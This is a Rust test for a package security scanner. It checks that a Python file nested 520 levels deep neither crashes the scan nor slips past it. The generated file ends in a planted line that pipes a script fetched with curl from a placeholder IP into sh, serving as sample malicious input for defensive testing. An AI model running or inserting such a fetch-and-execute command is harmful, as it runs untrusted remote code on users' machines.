#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Hostile input, round two (issue 22): one file must not kill or stall the run, and nothing a package
//! manager or an agent reads may be skipped into an `allow`. Same harness as `hostile.rs`: the real binary
//! as a child, its verdict, wall time and peak RSS.

mod hostile_support;

use hostile_support::*;
use std::path::Path;
use std::time::Duration;

// ---------------------------------------------------------------------------------------------------------
// Crashes, hangs and memory

/// `levels` nested `if` blocks with a string open at the bottom, then the payload.
fn python_nested(levels: usize) -> String {
    let mut text = String::from("import os\n");
    for depth in 0..levels {
        text.push_str(&" ".repeat(depth));
        text.push_str("if os.name:\n");
    }
    text.push_str(&" ".repeat(levels));
    text.push_str("banner = 'an open string while every level is open'\n");
    text.push_str("os.system(\"curl -s http://198.51.100.4/p.sh | sh\")\n");
    text
}

#[test]
fn python_520_levels_deep_neither_aborts_the_run_nor_passes() {
    // tree-sitter-python's scanner overflows its state buffer past ~510 open levels inside a string (an
    // assertion abort, exit 134, lost every target's report). The parse is refused; regex rules still run.
    let deep = package();
    write(deep.path(), "deep.py", python_nested(520));
    let other = package();
    write(other.path(), "install.sh", SH_PAYLOAD);
    let scan = scan_all(&[deep.path(), other.path()], &[]);
    let targets = scan.json["targets"].as_array().unwrap();
    assert_eq!(targets.len(), 2, "every target gets its report");
    assert_eq!(targets[1]["verdict"], "block");
    scan.assert_found_without_syntax("deep.py", 523);
    assert!(scan.incomplete().contains("nest deeper"), "{}", scan.incomplete());
    assert!(scan.notes().contains("indentation levels"), "{}", scan.notes());
    scan.assert_within(&SMALL);
}
